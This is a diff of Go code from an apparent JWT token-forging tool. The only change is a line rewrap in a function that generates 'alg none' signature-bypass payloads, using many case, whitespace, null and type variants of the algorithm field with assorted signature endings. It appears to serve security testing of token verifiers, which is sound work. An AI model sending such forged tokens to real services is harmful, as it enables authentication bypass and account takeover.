@@ -140,7 +140,8 @@ func (f *forger) raw(header, claims string) string { return f.sign(encode(header
 func (f *forger) none() {
 	signature := f.signed(f.header(), f.claims())
 	signature = signature[strings.LastIndexByte(signature, '.')+1:]
-	for _, alg := range []any{"none", "None", "NONE", "nOnE", "none ", " none", "none\x00", "", "null", json.RawMessage("null"), false, 0, []string{"none"}, members{"alg": "none"}, nil} {
+	for _, alg := range []any{"none", "None", "NONE", "nOnE", "none ", " none", "none\x00", "",
+		"null", json.RawMessage("null"), false, 0, []string{"none"}, members{"alg": "none"}, nil} {
 		unsigned := encode(text(with(f.header(), "alg", alg))) + "." + encode(text(f.claims()))
 		for _, end := range []string{"", ".", "." + signature, ".AA", "." + encode("none")} {
 			f.add("alg none", fmt.Sprintf("%v%.4s", alg, end), unsigned+end)
